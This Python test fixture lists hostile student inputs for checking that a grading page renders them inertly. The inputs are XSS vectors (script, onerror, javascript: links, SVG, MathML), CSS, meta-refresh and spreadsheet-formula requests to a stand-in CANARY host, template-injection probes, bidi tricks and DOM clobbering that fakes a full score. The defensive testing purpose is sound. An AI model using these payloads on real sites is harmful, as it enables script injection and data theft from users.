"""What a hostile student writes: every kind once, with what must happen to it. More are added to `ATTACKS`.

CANARY stands for the address of a socket that listens; `fired('...')` is a function that the tests put into every page.
Each attack goes into every text of every page (`surfaces.py`): names, files, messages, code, outputs, metadata, cell ids.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["ATTACKS", "PNG", "Attack"]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def _as_it_is(text: str) -> str:
    return text


def _script(text: str) -> str:
    return f"<script>{text}</script>"


def _markdown(text: str) -> str:
    import mistune

    renderer = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    return str(mistune.create_markdown(renderer=renderer)(text))


def _json(text: str) -> str:
    return f"<script type='application/json'>{json.dumps({'text': text}, ensure_ascii=False)}</script>"


@dataclass(frozen=True)
class Attack:
    """One kind."""

    id: str
    text: str
    must: str
    """What must happen."""
    fires: str = ""
    """How it shows in a page without any protection: "script", "request", "title"; "" where a page alone cannot show it."""
    unsafe: Callable[[str], str] = _as_it_is
    """How a careless program would write it into a page."""
    click: str = ""
    """What a careless reader clicks."""


ATTACKS = (
    Attack("script_tag", "<script>fired('script_tag')</script>", "stands there as a text", "script"),
    Attack(
        "end_of_script",
        "</script></style></title></textarea><script>fired('end_of_script')</script>",
        "ends no element of ours: in JSON, `<` is \\u003c",
        "script",
        _json,
    ),
    Attack("on_error", "\"'><img src=x: onerror=\"fired('on_error')\">", "stands there as a text", "script"),
    Attack(
        "javascript_link",
        "<a id=go href=\" java&#x0a;script:fired('javascript_link')\">solution</a>",
        "no link of theirs is a link",
        "script",
        click="#go",
    ),
    Attack(
        "frame",
        "<iframe srcdoc=\"<script>fired('frame')</script>\"></iframe>",
        "no frame is made",
        "script",
    ),
    Attack(
        "form",
        "<form action='CANARY/form'><input name=p autofocus onfocus=\"fired('form')\"><button id=send>Log in</button></form>",
        "no form is made",
        "script",
    ),
    Attack(
        "style",
        "<style>@import 'CANARY/style.css'; body{display:none}</style><p style=\"background:url(CANARY/bg)\">x",
        "no rule of theirs counts, nothing is fetched",
        "request",
    ),
    Attack(
        "refresh",
        '<meta http-equiv=refresh content="0;url=CANARY/refresh">',
        "the page stays",
        "request",
    ),
    Attack(
        "base",
        "<base href='CANARY/'><img src='base.png'>",
        "addresses stay ours",
        "request",
    ),
    Attack(
        "svg",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fired('svg')\"><script>fired('svg')</script>"
        "<image href='CANARY/svg.png'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='CANARY/f.png'/>"
        "</foreignObject></svg>",
        "is shown as a picture only, in which nothing runs and nothing is fetched",
        "script",
    ),
    Attack(
        "mathml",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1: onerror=fired('mathml')&gt;\">",
        "parsed again it is the same text",
        "script",
        lambda text: "<math><mtext><img src=1: onerror=\"fired('mathml')\">" + text,
    ),
    Attack(
        "object",
        "<object data='CANARY/object'></object><embed src='CANARY/embed'><applet code=x></applet>",
        "nothing is embedded",
        "request",
    ),
    Attack("program", "fired('program')", "a JavaScript output is never shown", "script", _script),
    Attack(
        "markdown_html",
        "text <details open ontoggle=\"fired('markdown_html')\"><summary>x</summary></details>",
        "HTML in Markdown is bare of all that acts",
        "script",
        _markdown,
    ),
    Attack(
        "markdown_link",
        "[x](javascript:fired('markdown_link')) ![x](CANARY/markdown.png) <javascript:fired('markdown_link')>\n\n[r]: CANARY/r",
        "links are words, pictures are not fetched",
        "request",
        _markdown,
    ),
    Attack(
        "remote",
        "<link rel=stylesheet href='CANARY/l.css'><img src='CANARY/track.png'><video poster='CANARY/v.png'></video>",
        "nobody is told that the page was opened",
        "request",
    ),
    Attack(
        "terminal",
        "\x1b]8;;javascript:fired('terminal')\x07x\x1b]8;;\x07 \x1b[2J\x1b[31mred\x1b[0m \x1b]0;fired\x07 \x08\x07",
        "colours by a table of ours; every other command is gone or can be seen",
    ),
    Attack(
        "bidi",
        "access = 'user\u202e \u2066# only admin\u2069 \u2066' \u202c\u200b",
        "turns nothing around: the signs can be seen",
    ),
    Attack(
        "formula",
        '=HYPERLINK("CANARY/?"&A1;"see")',
        "is no formula in a table that a spreadsheet opens",
    ),
    Attack(
        "line_separators",
        "a\u2028b\u2029c\x85d\x0ce\u0000f \ud800",
        "ends no line of JSON and breaks no page",
    ),
    Attack(
        "template",
        "{{ 7 * 191 }} {% for x in ().__class__.__base__.__subclasses__() %} ${7*191} %(x)s {0.__class__}",
        "is never a template of ours",
    ),
    Attack(
        "attribute",
        'x" autofocus tabindex=1 onfocus="fired(\'attribute\')" x="',
        "ends no attribute of ours",
        "script",
        lambda text: f'<p title="{text}">x</p>',
    ),
    Attack(
        "tag_in_attribute",
        f"<img src='data:image/png;base64,{PNG}' alt=\"<table><h1><img src=x: onerror=fired('tag_in_attribute')>\">",
        "no tag is found in an attribute, where ours are put in place of theirs",
        "script",
        lambda text: text.replace("<table>", '<div class="scroll"><table>'),
    ),
    Attack(
        "clobber",
        "<img id=main name=body src=x:><a id=summary></a></article></main></body></html><h1 id=title>100 / 100</h1>"
        "<meta name=grader-audience content=student><script>document.title='fired'</script>",
        "no element of ours is closed, none has its id or its marks",
        "title",
    ),
)
